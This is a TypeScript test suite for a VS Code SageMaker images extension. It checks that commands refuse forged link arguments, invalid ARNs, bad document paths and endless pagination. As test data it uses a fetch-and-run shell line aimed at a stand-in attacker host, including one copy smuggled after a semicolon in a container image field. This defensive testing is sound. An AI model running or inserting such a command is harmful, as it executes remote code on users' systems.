/**
 * Hostile arguments (issue 13, findings 2, 4 and 5), in the real host against the emulator: a
 * command link can pass any JSON, so commands accept only the tree's own nodes (by identity) or
 * a valid ARN resolved again through the service; details documents check their path before any
 * call; Reveal stops at a page cap and its Cancel aborts the page on its way. Each test asserts on
 * the emulator's request log, counted once nothing more arrives.
 */
import * as assert from 'node:assert/strict';
import { promises as fs } from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import * as vscode from 'vscode';
import type { RevealResult } from '../../src/commands/revealArn';
import type { ExtensionApi } from '../../src/extension';
import type { ImageNode, Node, VersionNode } from '../../src/tree/nodes';
import { SageMakerEmulator } from '../emulator/server';
import { containerImageFor, imageArn, imageVersionArn } from '../emulator/store';
import { activateExtension, resetSettings, setSetting, useEndpoint, waitFor } from './helpers';

const PAYLOAD = 'curl -s https://attacker.example/p | sh';
const UNTOUCHED = 'clipboard before the test';

/** What a command link delivers: JSON, parsed again. */
function viaLink<T>(value: T): T {
  return JSON.parse(JSON.stringify(value)) as T;
}

describe('forged command arguments', function () {
  this.timeout(60_000);
  let api: ExtensionApi;
  let emulator: SageMakerEmulator;

  before(async () => {
    emulator = new SageMakerEmulator();
    await emulator.start();
    emulator.seed({
      images: [
        { name: 'fa-kernel', versions: 3 },
        ...Array.from({ length: 5 }, (_, i) => ({ name: `fb-filler-${i}`, versions: 1 })),
        { name: 'zz-target', versions: 2 },
      ],
    });
    api = await activateExtension();
    await useEndpoint(emulator.url, 3);
    await setSetting('region', 'us-east-1');
    await api.settled();
  });

  beforeEach(async () => {
    api.tree.refresh();
    emulator.faults.clear();
    // The roots (3 of 7 images: more pages to come) and the region, loaded before each test.
    await api.tree.getChildren();
    await quiet();
    emulator.clearRequests();
    await vscode.env.clipboard.writeText(UNTOUCHED);
  });

  after(async () => {
    await resetSettings('region', 'pageSize', 'endpoint');
    await emulator.stop();
  });

  /** Waits until no new request has arrived for a settle window (nothing in flight reaches the log later). */
  async function quiet(settleMs = 300): Promise<void> {
    let count = emulator.calls().length;
    let since = Date.now();
    await waitFor(
      () => {
        const now = emulator.calls().length;
        if (now !== count) {
          count = now;
          since = Date.now();
        }
        return Date.now() - since >= settleMs;
      },
      'no more requests',
      20_000,
    );
  }

  async function imageNode(name: string): Promise<ImageNode> {
    const found = (await api.tree.getChildren()).find((n): n is ImageNode => n.kind === 'image' && n.image.imageName === name);
    assert.ok(found, `image ${name} not on the first page`);
    return found;
  }

  const forgedImage = {
    kind: 'image',
    id: 'image/fa-kernel',
    image: { imageName: 'fa-kernel', imageArn: PAYLOAD, imageStatus: 'CREATED' },
  };
  const forgedVersion = {
    kind: 'version',
    parent: { ...forgedImage, branchKey: 'www-attacker-example' },
    version: { imageArn: PAYLOAD, imageVersionArn: PAYLOAD, version: 1, imageVersionStatus: 'CREATED' },
  };

  describe('nodes the tree did not hand out', () => {
    it('Copy Image ARN refuses a look-alike image node: the clipboard keeps its text and no ARN is made from it', async () => {
      assert.equal(await vscode.commands.executeCommand('sagemakerImages.copyImageArn', viaLink(forgedImage)), undefined);
      assert.equal(
        await vscode.commands.executeCommand('sagemakerImages.copyImageArn', viaLink(forgedImage), [viaLink(forgedImage)]),
        undefined,
      );
      // Also with one real row in the selection: the whole argument is refused.
      const real = await imageNode('fa-kernel');
      assert.equal(await vscode.commands.executeCommand('sagemakerImages.copyImageArn', real, [real, viaLink(forgedImage)]), undefined);
      assert.equal(await vscode.env.clipboard.readText(), UNTOUCHED);
      await quiet();
      assert.deepEqual(emulator.calls(), []);
    });

    it('Copy Version ARN refuses a look-alike version node', async () => {
      assert.equal(await vscode.commands.executeCommand('sagemakerImages.copyVersionArn', viaLink(forgedVersion)), undefined);
      assert.equal(
        await vscode.commands.executeCommand('sagemakerImages.copyVersionArn', viaLink(forgedVersion), [viaLink(forgedVersion)]),
        undefined,
      );
      assert.equal(await vscode.env.clipboard.readText(), UNTOUCHED);
      await quiet();
      assert.deepEqual(emulator.calls(), []);
    });

    it('details, alias, container URI, console and compare commands refuse a look-alike node and make no call for its region', async () => {
      for (const command of [
        'showVersionDetails',
        'copyAlias',
        'copyContainerImageUri',
        'openInConsole',
        'compareVersions',
        'exportVersions',
      ]) {
        assert.equal(await vscode.commands.executeCommand(`sagemakerImages.${command}`, viaLink(forgedVersion)), undefined, command);
      }
      assert.equal(await vscode.env.clipboard.readText(), UNTOUCHED);
      await quiet();
      assert.deepEqual(emulator.calls(), [], 'nothing was sent, least of all signed for www-attacker-example');
    });

    it('a ref with extra members, an unknown region or a bad name is refused too', async () => {
      for (const arg of [
        { region: 'us-east-1', imageName: 'fa-kernel', version: 1, imageVersionArn: PAYLOAD },
        { region: 'www-attacker-example', imageName: 'fa-kernel', version: 1 },
        { region: 'us-east-1', imageName: '../fa-kernel', version: 1 },
        { region: 'us-east-1', imageName: 'fa-kernel', version: -1 },
      ]) {
        assert.equal(
          await vscode.commands.executeCommand('sagemakerImages.copyContainerImageUri', viaLink(arg)),
          undefined,
          JSON.stringify(arg),
        );
      }
      assert.equal(await vscode.env.clipboard.readText(), UNTOUCHED);
      await quiet();
      assert.deepEqual(emulator.calls(), []);
    });

    it('Load More and Retry act only on the rows the tree handed out', async () => {
      await vscode.commands.executeCommand('sagemakerImages.loadMore', viaLink({ kind: 'loadMore', loadedCount: 3 }));
      await vscode.commands.executeCommand('sagemakerImages.retry', viaLink({ kind: 'error', error: {} }));
      await vscode.commands.executeCommand('sagemakerImages.loadMore', viaLink({ kind: 'error', error: {} }));
      await quiet();
      assert.deepEqual(emulator.calls(), [], 'no ListImages for a forged row');
      // The real row still works.
      const more = (await api.tree.getChildren()).find((n) => n.kind === 'loadMore');
      assert.ok(more);
      await vscode.commands.executeCommand('sagemakerImages.loadMore', more);
      await quiet();
      assert.equal(emulator.calls('ListImages').length, 1);
    });

    it('rows the tree handed out still work, by click and by selection', async () => {
      const image = await imageNode('fa-kernel');
      const versions = (await api.tree.getChildren(image)).filter((n): n is VersionNode => n.kind === 'version');
      assert.equal(await vscode.commands.executeCommand('sagemakerImages.copyImageArn', image), imageArn('us-east-1', 'fa-kernel'));
      const both = await vscode.commands.executeCommand<string>(
        'sagemakerImages.copyVersionArn',
        versions[0],
        versions.slice(0, 2) as Node[],
      );
      assert.equal(
        both,
        versions
          .slice(0, 2)
          .map((v) => v.version.imageVersionArn)
          .join('\n'),
      );
      assert.equal(await vscode.env.clipboard.readText(), both);
    });
  });

  describe('ARN arguments are resolved again', () => {
    it('Copy Image ARN copies the ARN DescribeImage answered', async () => {
      const arn = imageArn('us-east-1', 'fa-kernel');
      assert.equal(await vscode.commands.executeCommand('sagemakerImages.copyImageArn', arn), arn);
      assert.equal(await vscode.env.clipboard.readText(), arn);
      await quiet();
      assert.deepEqual(
        emulator.calls().map((c) => [c.operation, c.params.ImageName, c.region]),
        [['DescribeImage', 'fa-kernel', 'us-east-1']],
      );
    });

    it('Copy Version ARN copies the ARN DescribeImageVersion answered', async () => {
      const arn = imageVersionArn('us-east-1', 'fa-kernel', 2);
      assert.equal(await vscode.commands.executeCommand('sagemakerImages.copyVersionArn', arn), arn);
      await quiet();
      assert.deepEqual(
        emulator.calls().map((c) => [c.operation, c.params]),
        [['DescribeImageVersion', { ImageName: 'fa-kernel', Version: 2 }]],
      );
    });

    it('copies nothing for an ARN the service does not know, or of another account', async () => {
      for (const arn of [
        imageArn('us-east-1', 'fa-missing'),
        imageVersionArn('us-east-1', 'fa-kernel', 99),
        'arn:aws:sagemaker:us-east-1:111111111111:image/fa-kernel',
      ]) {
        const command = arn.includes(':image-version/') ? 'sagemakerImages.copyVersionArn' : 'sagemakerImages.copyImageArn';
        assert.equal(await vscode.commands.executeCommand(command, arn), undefined, arn);
      }
      assert.equal(await vscode.env.clipboard.readText(), UNTOUCHED);
    });

    it('Copy Container Image URI copies nothing when the service answers with text that is not a registry path', async () => {
      emulator.seed({
        region: 'eu-west-1',
        images: [{ name: 'fc-shell', versions: [{ containerImage: 'x; curl -s https://attacker.example/p | sh' }] }],
      });
      assert.equal(
        await vscode.commands.executeCommand('sagemakerImages.copyContainerImageUri', imageVersionArn('eu-west-1', 'fc-shell', 1)),
        undefined,
      );
      assert.equal(await vscode.env.clipboard.readText(), UNTOUCHED);
      await quiet();
      assert.ok(
        emulator.calls('DescribeImageVersion').some((c) => c.params.ImageName === 'fc-shell' && c.region === 'eu-west-1'),
        'the service was asked',
      );
    });

    it("Copy Container Image URI copies the URI of the ARN's own account only", async () => {
      const other = 'arn:aws:sagemaker:us-east-1:111111111111:image-version/fa-kernel/2';
      assert.equal(await vscode.commands.executeCommand('sagemakerImages.copyContainerImageUri', other), undefined);
      assert.equal(
        await vscode.env.clipboard.readText(),
        UNTOUCHED,
        "a same-named image of the profile's account is not the one the ARN names",
      );
      const own = imageVersionArn('us-east-1', 'fa-kernel', 2);
      assert.equal(
        await vscode.commands.executeCommand('sagemakerImages.copyContainerImageUri', own),
        containerImageFor('us-east-1', 'fa-kernel', 2),
      );
    });

    it('copies nothing, and calls nothing, for text that is not an ARN of a region SageMaker serves', async () => {
      for (const text of [
        PAYLOAD,
        `arn:aws:sagemaker:www-attacker-example:123456789012:image/fa-kernel`,
        `${imageArn('us-east-1', 'fa-kernel')}\n${PAYLOAD}`,
      ]) {
        assert.equal(await vscode.commands.executeCommand('sagemakerImages.copyImageArn', text), undefined, text);
        assert.equal(await vscode.commands.executeCommand('sagemakerImages.copyVersionArn', text), undefined, text);
      }
      assert.equal(await vscode.env.clipboard.readText(), UNTOUCHED);
      await quiet();
      assert.deepEqual(emulator.calls(), []);
    });
  });

  describe('Export options from a link', () => {
    it('a uri without a cancellation token is ignored: the save dialog asks, and nothing is written', async () => {
      const target = path.join(os.tmpdir(), `smi-forged-export-${process.pid}.json`);
      await fs.rm(target, { force: true });
      const window = vscode.window as unknown as { showSaveDialog: unknown };
      const saved = window.showSaveDialog;
      let asked = 0;
      window.showSaveDialog = async () => {
        asked++;
        return undefined; // the user closes the dialog
      };
      try {
        // What a command link carries: JSON, whose `$mid` VS Code revives into a real Uri.
        const args = JSON.parse(
          JSON.stringify([imageArn('us-east-1', 'fa-kernel'), { uri: vscode.Uri.file(target), cancellation: {} }]),
        ) as unknown[];
        assert.equal(await vscode.commands.executeCommand('sagemakerImages.exportVersions', ...args), undefined);
      } finally {
        window.showSaveDialog = saved;
      }
      assert.equal(asked, 1, 'the save dialog asked where to write');
      await assert.rejects(fs.stat(target), 'no file was written where the link said');
      await quiet();
      assert.deepEqual(emulator.calls('ListImageVersions'), []);
    });
  });

  describe('Reveal options from a link', () => {
    it('confirmRegionSwitch without a cancellation token still asks, and a refusal switches nothing', async () => {
      const window = vscode.window as unknown as { showWarningMessage: unknown };
      const saved = window.showWarningMessage;
      const asked: string[] = [];
      window.showWarningMessage = async (message: string) => {
        asked.push(message);
        return undefined; // the user closes the modal
      };
      try {
        // What a command link's JSON can carry: no function, so no token.
        const args = JSON.parse(JSON.stringify([imageVersionArn('eu-west-1', 'fa-kernel', 1), { confirmRegionSwitch: true }])) as unknown[];
        assert.equal(await vscode.commands.executeCommand<RevealResult>('sagemakerImages.revealArn', ...args), 'cancelled');
      } finally {
        window.showWarningMessage = saved;
      }
      assert.equal(asked.length, 1, 'the modal asked before switching');
      assert.match(asked[0], /eu-west-1/);
      assert.equal(vscode.workspace.getConfiguration('sagemakerImages').get('region'), 'us-east-1');
      await quiet();
      assert.deepEqual(
        emulator.calls().filter((c) => c.region === 'eu-west-1'),
        [],
      );
    });
  });

  describe('version documents (finding 4)', () => {
    async function documentText(path: string): Promise<string> {
      const doc = await vscode.workspace.openTextDocument(vscode.Uri.from({ scheme: 'sagemaker-image-version', path }));
      return doc.getText();
    }

    it('a region label SageMaker does not serve gets a document saying so, and no request', async () => {
      const attacker = await documentText('/www-attacker-example/fa-kernel/fa-kernel.v1.json');
      assert.match(attacker, /www-attacker-example is not a region SageMaker serves; nothing was looked up/);
      const unknown = await documentText('/us-east-9/fa-kernel/fa-kernel.v1.json');
      assert.match(unknown, /us-east-9 is not a region SageMaker serves/);
      await quiet();
      assert.deepEqual(emulator.calls(), []);
    });

    it('a bad name or version gets a document saying so, and no request', async () => {
      assert.match(await documentText('/us-east-1/fa..kernel/fa..kernel.v1.json'), /is not a valid image name/);
      assert.match(await documentText('/us-east-1/fa-kernel/fa-kernel.v99999999999999999.json'), /is not a version number/);
      await quiet();
      assert.deepEqual(emulator.calls(), []);
    });

    it('a valid path is looked up in its region', async () => {
      const text = await documentText('/us-east-1/fa-kernel/fa-kernel.v2.json');
      assert.equal((JSON.parse(text) as { ImageVersionArn: string }).ImageVersionArn, imageVersionArn('us-east-1', 'fa-kernel', 2));
      await quiet();
      assert.deepEqual(
        emulator.calls('DescribeImageVersion').map((c) => [c.region, c.params]),
        [['us-east-1', { ImageName: 'fa-kernel', Version: 2 }]],
      );
    });
  });

  describe('Reveal by ARN (finding 5)', () => {
    it('stops at the page cap when the endpoint keeps returning new tokens', async () => {
      // Every ListImages page is empty with a fresh token to the same place: endless on purpose.
      emulator.addFault({ kind: 'emptyPageWithToken', operation: 'ListImages', times: 1_000_000 });
      const result = await vscode.commands.executeCommand<RevealResult>(
        'sagemakerImages.revealArn',
        imageVersionArn('us-east-1', 'zz-target', 1),
        { maxPages: 25 },
      );
      assert.equal(result, 'failed');
      await quiet();
      assert.equal(emulator.calls('ListImages').length, 25, 'exactly the cap, then no more');
      assert.ok(emulator.calls('ListImages').every((c) => c.fault === 'emptyPageWithToken'));
    });

    it('Cancel aborts the page on its way: the list is left as it was and asks for that page again', async () => {
      const image = await imageNode('fa-kernel');
      // Longer than this test may take: only an aborted request lets the list load again.
      emulator.addFault({ kind: 'delay', operation: 'ListImageVersions', imageName: 'fa-kernel', delayMs: 40_000 });
      const cancel = new vscode.CancellationTokenSource();
      const running = vscode.commands.executeCommand<RevealResult>(
        'sagemakerImages.revealArn',
        imageVersionArn('us-east-1', 'fa-kernel', 1),
        { cancellation: cancel.token },
      );
      await waitFor(() => emulator.calls('ListImageVersions').length === 1, 'the first version page requested');
      cancel.cancel();
      assert.equal(await running, 'cancelled');
      // Were the page still on its way, this would wait for it (single flight) and time out.
      const versions = (await api.tree.getChildren(image)).filter((n) => n.kind === 'version');
      assert.equal(versions.length, 3);
      await quiet();
      assert.equal(emulator.calls('ListImageVersions').length, 2, 'the cancelled page, then the same page asked again');
      assert.equal(emulator.calls('ListImageVersions')[1].params.NextToken, undefined);
    });
  });
});
